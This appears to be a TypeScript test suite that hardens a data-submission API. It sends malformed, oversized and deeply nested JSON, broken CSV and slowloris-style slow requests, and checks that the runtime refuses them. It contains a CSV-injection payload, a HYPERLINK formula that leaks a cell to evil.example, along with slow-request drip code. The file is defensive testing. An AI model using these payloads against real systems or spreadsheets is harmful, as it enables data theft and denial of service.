/**
 * Hostile input against the embedded runtime, table by table. Each request that is wrong as a whole is refused with
 * its own problem+json (status, `code`, `type` and a detail that names the problem); each record that is wrong on
 * its own is rejected on the receipt with its own issue while the others go through; CSV as spreadsheets write it
 * (BOM, CRLF, Windows-1252) is read; a slowly sent request is cut off by the request timeout while other requests
 * are served; and formula-like text never comes back unescaped in a CSV export. Around it all, the number of current
 * records is counted before and after: it moves by exactly the records the tables accept, so nothing already
 * accepted is lost.
 */
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { SubmittedRecord } from '@mosy/core';
import { MAX_JSON_DEPTH } from '@mosy/http';
import { startWorld, type World } from './test-support/world.js';

const MAX_BODY_BYTES = 16 * 1024 * 1024;
const MAX_RECORDS = 10_000;

interface Problem {
  readonly type: string;
  readonly title: string;
  readonly status: number;
  readonly code: string;
  readonly detail: string;
}

interface Receipt {
  readonly submissionId: string;
  readonly accepted: number;
  readonly duplicates: number;
  readonly rejected: number;
  readonly records: readonly {
    readonly index: number;
    readonly recordId: string;
    readonly version: number;
    readonly status: string;
    readonly issues?: readonly { field: string; code: string; message: string }[];
  }[];
}

/** A provider whose mapping refuses what it does not map, for invalid codes. */
const STRICT = {
  id: 'hostile-strict',
  type: 'NGO',
  name: 'Strict test provider',
  mapping: {
    format: 'mosy-mapping/1',
    unmapped: 'reject',
    fields: { sex: { from: 'sex', values: { female: 'F', male: 'M' } } },
    drop: ['note'],
  },
};

let world: World;
let strictKey: string;

const post = (key: string, body: string | Buffer, contentType: string): Promise<Response> =>
  fetch(`${world.runtime.url}/v1/submissions`, {
    method: 'POST',
    headers: { authorization: key, 'content-type': contentType },
    body,
  });

/** Current records once the pipeline is idle, as the API reports them. */
async function currentRecords(): Promise<number> {
  for (;;) {
    const res = await world.call('coordinator', 'GET', '/v1/status');
    const status = (await res.json()) as { idle: boolean; records: number };
    if (status.idle) return status.records;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** A valid record of the world's first provider (the synthetic police: `sexo`, `estatuto` in its vocabulary). */
const record = (recordId: string, overrides: Partial<Record<string, unknown>> = {}): SubmittedRecord => ({
  recordId,
  version: 1,
  action: 'upsert',
  kind: 'victim',
  referenceDate: '2024-06-15',
  fields: { sexo: 'Feminino', estatuto: 'Identificada' },
  ...overrides,
});

beforeAll(async () => {
  world = await startWorld({ hardening: { rateLimitPerMinute: 100_000 } });
  const created = await fetch(`${world.runtime.url}/v1/admin/providers`, {
    method: 'POST',
    headers: { authorization: `Bearer ${world.adminToken}`, 'content-type': 'application/json' },
    body: JSON.stringify(STRICT),
  });
  expect(created.status).toBe(201);
  strictKey = `Bearer ${((await created.json()) as { key: string }).key}`;
  // What was accepted before any hostile input: the records that must never be lost.
  const accepted = await world.call('provider', 'POST', '/v1/submissions', { records: world.records });
  expect(((await accepted.json()) as Receipt).accepted).toBe(world.records.length);
}, 60_000);

afterAll(async () => {
  await world?.close();
});

describe('requests refused whole', () => {
  const deep = `{"records":[{"fields":{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}}]}`;
  const latin1 = Buffer.from(
    JSON.stringify({ records: [{ recordId: 'latin-1', fields: { sexo: 'Feminino' }, note: 'Jo\u00e3o' }] }),
    'latin1',
  );
  const filler = 'x'.repeat(MAX_BODY_BYTES + 1024);
  const many = Array.from({ length: MAX_RECORDS + 1 }, (_, i) => record(`many-${i}`));
  const cases: {
    what: string;
    body: string | Buffer;
    contentType?: string;
    status: number;
    code: string;
    detail: RegExp;
  }[] = [
    {
      what: 'malformed JSON',
      body: '{"records": [{"recordId": "x",',
      status: 400,
      code: 'invalid-request',
      detail: /not valid JSON/,
    },
    {
      what: 'JSON that is an array, not an object',
      body: '[{"recordId": "x"}]',
      status: 400,
      code: 'invalid-request',
      detail: /object/i,
    },
    {
      what: 'JSON in Latin-1 bytes',
      body: latin1,
      status: 400,
      code: 'invalid-request',
      detail: /not valid UTF-8/,
    },
    {
      what: 'JSON declared as Latin-1',
      body: latin1,
      contentType: 'application/json; charset=iso-8859-1',
      status: 415,
      code: 'unsupported-media-type',
      detail: /UTF-8/,
    },
    {
      what: 'JSON nested 100 000 levels deep',
      body: deep,
      status: 400,
      code: 'invalid-request',
      detail: new RegExp(`more than ${MAX_JSON_DEPTH} levels deep`),
    },
    {
      what: 'a body over 16 MiB',
      body: JSON.stringify({ records: [record('huge', { fields: { note: filler } })] }),
      status: 413,
      code: 'payload-too-large',
      detail: new RegExp(`larger than the limit of ${MAX_BODY_BYTES} bytes`),
    },
    {
      what: 'more than 10 000 records',
      body: JSON.stringify({ records: many }),
      status: 413,
      code: 'payload-too-large',
      detail: new RegExp(`at most ${MAX_RECORDS} records; this one has ${MAX_RECORDS + 1}`),
    },
    {
      what: 'an unknown top-level field',
      body: JSON.stringify({ records: [record('unknown-top')], batch: 7 }),
      status: 400,
      code: 'unknown-field',
      detail: /batch/,
    },
    {
      what: 'no records field',
      body: '{}',
      status: 400,
      code: 'invalid-request',
      detail: /records/,
    },
    {
      what: 'an empty records list',
      body: '{"records": []}',
      status: 400,
      code: 'invalid-request',
      detail: /"records" is empty/,
    },
    {
      what: 'a media type the endpoint does not take',
      body: 'recordId\nx\n',
      contentType: 'text/plain',
      status: 415,
      code: 'unsupported-media-type',
      detail: /application\/json|text\/csv/,
    },
    {
      what: 'CSV with an unclosed quote',
      body: 'recordId,version,action,kind,referenceDate\r\n"csv-1,1,upsert,victim,2024\r\n',
      contentType: 'text/csv',
      status: 400,
      code: 'invalid-request',
      detail: /The CSV body could not be parsed: .*[Qq]uote/,
    },
    {
      what: 'CSV with a row longer than its header',
      body: 'recordId,version,action,kind,referenceDate\r\ncsv-2,1,upsert,victim,2024,extra\r\n',
      contentType: 'text/csv',
      status: 400,
      code: 'invalid-request',
      detail: /The CSV body could not be parsed: .*[Rr]ecord [Ll]ength/,
    },
    {
      what: 'CSV with an unknown column',
      body: 'recordId,version,action,kind,referenceDate,colour\r\ncsv-3,1,upsert,victim,2024,blue\r\n',
      contentType: 'text/csv',
      status: 400,
      code: 'unknown-field',
      detail: /Unknown CSV column\(s\): colour/,
    },
    {
      what: 'CSV declared UTF-8 holding Latin-1 bytes',
      body: Buffer.from(
        'recordId,version,action,kind,referenceDate\r\nJo\u00e3o,1,upsert,victim,2024\r\n',
        'latin1',
      ),
      contentType: 'text/csv; charset=utf-8',
      status: 400,
      code: 'invalid-request',
      detail: /not valid UTF-8/,
    },
  ];

  it.each(cases)(
    'refuses $what with $status $code',
    async ({ body, contentType, status, code, detail }) => {
      const before = await currentRecords();
      const res = await post(world.auth.provider!, body, contentType ?? 'application/json');
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      const problem = (await res.json()) as Problem;
      expect({ status: res.status, code: problem.code }).toEqual({ status, code });
      expect(problem.status).toBe(status);
      expect(problem.type).toBe(`https://mosy.eu/problems/${code}`);
      expect(problem.detail).toMatch(detail);
      expect(await currentRecords()).toBe(before);
    },
    60_000,
  );
});

describe('records rejected one by one, the others accepted', () => {
  it('answers each wrong record with its own issue, and accepts exactly the valid ones', async () => {
    const before = await currentRecords();
    const accepted = world.records[1]!;
    const rows: { what: string; record: unknown; status: string; code?: string; field?: string }[] = [
      {
        what: 'an unknown record property',
        record: { ...record('rec-unknown'), colour: 'blue' },
        status: 'rejected',
        code: 'unknown-field',
        field: 'colour',
      },
      {
        what: 'a missing recordId',
        record: { ...record('x'), recordId: undefined },
        status: 'rejected',
        code: 'invalid-field',
        field: 'recordId',
      },
      {
        what: 'a missing kind',
        record: { ...record('rec-no-kind'), kind: undefined },
        status: 'rejected',
        code: 'invalid-field',
        field: 'kind',
      },
      {
        what: 'an unknown kind',
        record: record('rec-bad-kind', { kind: 'witness' }),
        status: 'rejected',
        code: 'invalid-field',
        field: 'kind',
      },
      {
        what: 'an unknown source field',
        record: record('rec-unknown-source', { fields: { cor_dos_olhos: 'verde' } }),
        status: 'rejected',
        code: 'unknown-field',
        field: 'fields.cor_dos_olhos',
      },
      {
        what: 'a reference date before 1900',
        record: record('rec-1899', { referenceDate: '1899-12-31' }),
        status: 'rejected',
        code: 'invalid-field',
        field: 'referenceDate',
      },
      {
        what: 'a reference date that is not a calendar date',
        record: record('rec-feb-30', { referenceDate: '2024-02-30' }),
        status: 'rejected',
        code: 'invalid-field',
        field: 'referenceDate',
      },
      {
        what: 'a reference date in the future',
        record: record('rec-future', { referenceDate: '2099-01-01' }),
        status: 'rejected',
        code: 'invalid-field',
        field: 'referenceDate',
      },
      {
        what: 'a version that is not a positive integer',
        record: record('rec-v0', { version: 0 }),
        status: 'rejected',
        code: 'invalid-field',
        field: 'version',
      },
      {
        what: 'a negative version',
        record: record('rec-v-neg', { version: -7 }),
        status: 'rejected',
        code: 'invalid-field',
        field: 'version',
      },
      { what: 'an exact re-send of an accepted record', record: accepted, status: 'duplicate' },
      {
        what: 'the same record twice in the batch, same version: the second is a duplicate',
        record: record('rec-twice'),
        status: 'accepted',
      },
      { what: '… its second copy', record: record('rec-twice'), status: 'duplicate' },
      {
        what: 'the same record with a higher version later in the batch: accepted too',
        record: record('rec-twice', { version: 2 }),
        status: 'accepted',
      },
      {
        what: 'and a lower version after that: refused',
        record: record('rec-twice', { version: 1, action: 'withdraw' }),
        status: 'rejected',
        code: 'version-regression',
        field: 'version',
      },
      {
        what: 'a record naming another provider',
        record: { ...record('rec-other'), providerId: world.otherProviderId },
        status: 'rejected',
        code: 'provider-mismatch',
        field: 'providerId',
      },
      {
        what: 'a formula as record id is just an id (JSON receipts only, never a CSV cell)',
        record: record('=HYPERLINK("http://evil.example/?"&A1,"x")'),
        status: 'accepted',
      },
      { what: 'a valid new record', record: record('rec-valid'), status: 'accepted' },
    ];
    const res = await world.call('provider', 'POST', '/v1/submissions', {
      records: rows.map((r) => r.record),
    });
    expect(res.status).toBe(202);
    const receipt = (await res.json()) as Receipt;
    const got = rows.map((row, index) => {
      const r = receipt.records.find((x) => x.index === index);
      const issue = r?.issues?.find((i) => i.code === row.code && i.field === row.field);
      return `${row.what}: ${r?.status} ${issue === undefined ? '' : `${issue.code} ${issue.field}`}`.trim();
    });
    expect(got).toEqual(
      rows.map((row) =>
        `${row.what}: ${row.status} ${row.code === undefined ? '' : `${row.code} ${row.field}`}`.trim(),
      ),
    );
    const count = (status: string) => rows.filter((r) => r.status === status).length;
    expect([receipt.accepted, receipt.duplicates, receipt.rejected]).toEqual([
      count('accepted'),
      count('duplicate'),
      count('rejected'),
    ]);
    // rec-twice counts once (its version 2); the formula id and rec-valid once each.
    expect(await currentRecords()).toBe(before + 3);
  });

  it('rejects a version lower than one accepted in an earlier submission (version-regression)', async () => {
    const before = await currentRecords();
    const later = await world.call('provider', 'POST', '/v1/submissions', {
      records: [record('rec-regress', { version: 3 })],
    });
    expect(((await later.json()) as Receipt).accepted).toBe(1);
    const res = await world.call('provider', 'POST', '/v1/submissions', {
      records: [record('rec-regress', { version: 2 })],
    });
    const receipt = (await res.json()) as Receipt;
    expect(receipt.records[0]).toMatchObject({
      status: 'rejected',
      issues: [
        {
          field: 'version',
          code: 'version-regression',
          message: 'Version 2 is lower than version 3, already accepted for record rec-regress.',
        },
      ],
    });
    expect(await currentRecords()).toBe(before + 1);
  });

  it('answers a replayed submission with duplicates only, and counts nothing twice', async () => {
    const body = { records: [record('replay-1'), record('replay-2'), record('replay-3', { version: 2 })] };
    const before = await currentRecords();
    const first = (await (await world.call('provider', 'POST', '/v1/submissions', body)).json()) as Receipt;
    expect([first.accepted, first.duplicates, first.rejected]).toEqual([3, 0, 0]);
    expect(await currentRecords()).toBe(before + 3);
    for (let replay = 0; replay < 3; replay++) {
      const again = (await (await world.call('provider', 'POST', '/v1/submissions', body)).json()) as Receipt;
      expect([again.accepted, again.duplicates, again.rejected]).toEqual([0, 3, 0]);
      expect(again.submissionId).not.toBe(first.submissionId);
    }
    expect(await currentRecords()).toBe(before + 3);
  });

  it('rejects a code the mapping does not map, under a reject policy (unmapped-value)', async () => {
    const before = await currentRecords();
    const res = await post(
      strictKey,
      JSON.stringify({
        records: [
          {
            recordId: 's-1',
            version: 1,
            action: 'upsert',
            kind: 'victim',
            referenceDate: '2024',
            fields: { sex: 'Z' },
          },
          {
            recordId: 's-2',
            version: 1,
            action: 'upsert',
            kind: 'victim',
            referenceDate: '2024',
            fields: { sex: 'female', note: '=1+1' },
          },
        ],
      }),
      'application/json',
    );
    const receipt = (await res.json()) as Receipt;
    expect(receipt.records.map((r) => r.status)).toEqual(['rejected', 'accepted']);
    expect(receipt.records[0]!.issues).toEqual([
      expect.objectContaining({ field: 'fields.sex', code: 'unmapped-value' }),
    ]);
    expect(await currentRecords()).toBe(before + 1);
  });
});

describe('CSV as spreadsheets write it', () => {
  const header = 'recordId,version,action,kind,referenceDate,fields.sex';
  it.each([
    {
      what: 'UTF-8 with a byte order mark and CRLF',
      bytes: Buffer.from(`\uFEFF${header}\r\ncsv-bom,1,upsert,victim,2024,female\r\n`),
      csv: { separator: ',', encoding: 'utf-8' },
    },
    {
      what: 'Windows-1252 (Latin-1 bytes) with ; and CRLF',
      bytes: Buffer.from(
        `${header.replace(/,/g, ';')}\r\ncsv-l\u00e1tin;1;upsert;victim;2024;male\r\n`,
        'latin1',
      ),
      csv: { separator: ';', encoding: 'windows-1252' },
    },
  ])('reads $what and says how', async ({ bytes, csv }) => {
    const before = await currentRecords();
    const res = await post(strictKey, bytes, 'text/csv');
    expect(res.status).toBe(202);
    const receipt = (await res.json()) as Receipt & { csv: unknown };
    expect(receipt.csv).toEqual(csv);
    expect([receipt.accepted, receipt.rejected]).toEqual([1, 0]);
    expect(await currentRecords()).toBe(before + 1);
  });

  it('keeps the letters of a Windows-1252 record id', async () => {
    const res = await post(
      strictKey,
      Buffer.from(`${header}\r\ncsv-Jo\u00e3o,1,upsert,victim,2024,female\r\n`, 'latin1'),
      'text/csv',
    );
    expect(((await res.json()) as Receipt).records[0]).toMatchObject({
      recordId: 'csv-Jo\u00e3o',
      status: 'accepted',
    });
  });
});

describe('CSV exports', () => {
  const FORMULA = /^[=+\-@\t\r]/;
  it('hold no cell that a spreadsheet would read as a formula', async () => {
    await currentRecords();
    const exports = [
      '/v1/indicators/victims/values?by=sex&interval=year&format=csv',
      '/v1/reports/simple/victims?by=sex&format=csv',
      '/v1/reports/simple/victims?by=sex&from=2024&to=2024&format=sdmx-csv',
      '/v1/reports/total/victims?by=sex&format=csv',
      '/v1/reports/time-frame/victims?interval=year&format=csv',
      '/v1/reports/geo/victims?level=0&format=csv',
    ];
    let cells = 0;
    for (const path of exports) {
      const res = await world.call('coordinator', 'GET', path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('content-type'), path).toMatch(/^text\/csv/);
      const text = await res.text();
      const rows = parse(text);
      for (const row of rows)
        for (const cell of row) {
          cells++;
          // A formula-like cell must have been written as text, with a leading quote.
          expect(FORMULA.test(cell), `${path}: ${cell}`).toBe(false);
        }
      expect(text, path).not.toContain('HYPERLINK');
    }
    expect(cells).toBeGreaterThan(exports.length * 4);
  });
});

describe('a request sent slowly (slowloris)', () => {
  let slow: World;
  beforeAll(async () => {
    slow = await startWorld({ hardening: { rateLimitPerMinute: 100_000, requestTimeoutMs: 1_000 } });
  }, 60_000);
  afterAll(async () => {
    await slow?.close();
  });

  it('is cut off with 408 request-timeout while other requests are served', async () => {
    const { port, hostname } = new URL(slow.runtime.url);
    const socket = connect(Number(port), hostname);
    let answer = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => (answer += chunk));
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
    await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
    socket.write(
      `POST /v1/submissions HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: ${slow.auth.provider}\r\n` +
        'Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"records":[',
    );
    // A byte every 100 ms, far slower than the body needs; the server must not wait for it.
    const drip = setInterval(() => {
      if (!socket.destroyed) socket.write(' ');
    }, 100);
    try {
      const healthy = await fetch(`${slow.runtime.url}/healthz`);
      expect(healthy.status).toBe(200);
      await closed;
    } finally {
      clearInterval(drip);
    }
    const [head = '', body = ''] = answer.split('\r\n\r\n');
    expect(head).toMatch(/^HTTP\/1\.1 408 Request Timeout\r\n/);
    expect(head).toMatch(/\r\nContent-Type: application\/problem\+json\r\n/i);
    const problem = JSON.parse(body) as Problem;
    expect(problem).toMatchObject({
      status: 408,
      code: 'request-timeout',
      type: 'https://mosy.eu/problems/request-timeout',
    });
    expect(problem.detail).toMatch(/did not arrive in full within 1 s/);
    // The runtime still answers, and the slow request changed nothing.
    const status = await slow.call('coordinator', 'GET', '/v1/status');
    expect(((await status.json()) as { records: number }).records).toBe(0);
  }, 30_000);

  it('answers bytes that are not HTTP with 400 problem+json', async () => {
    const { port, hostname } = new URL(slow.runtime.url);
    const socket = connect(Number(port), hostname);
    let answer = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => (answer += chunk));
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
    socket.write('HELLO \u0000 there\r\n\r\n');
    await closed;
    expect(answer).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/);
    expect(JSON.parse(answer.split('\r\n\r\n')[1] ?? '')).toMatchObject({
      status: 400,
      code: 'invalid-request',
      detail: 'The request is not valid HTTP/1.1.',
    });
  }, 30_000);

  it('cuts off headers sent slowly too', async () => {
    const { port, hostname } = new URL(slow.runtime.url);
    const socket = connect(Number(port), hostname);
    let answer = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => (answer += chunk));
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
    socket.write(`GET /v1/status HTTP/1.1\r\nHost: ${hostname}\r\n`);
    const drip = setInterval(() => {
      if (!socket.destroyed) socket.write('X-Slow: 1\r\n');
    }, 100);
    try {
      await closed;
    } finally {
      clearInterval(drip);
    }
    expect(answer).toMatch(/^HTTP\/1\.1 408 Request Timeout\r\n/);
    expect(answer).toContain('"code":"request-timeout"');
  }, 30_000);
});
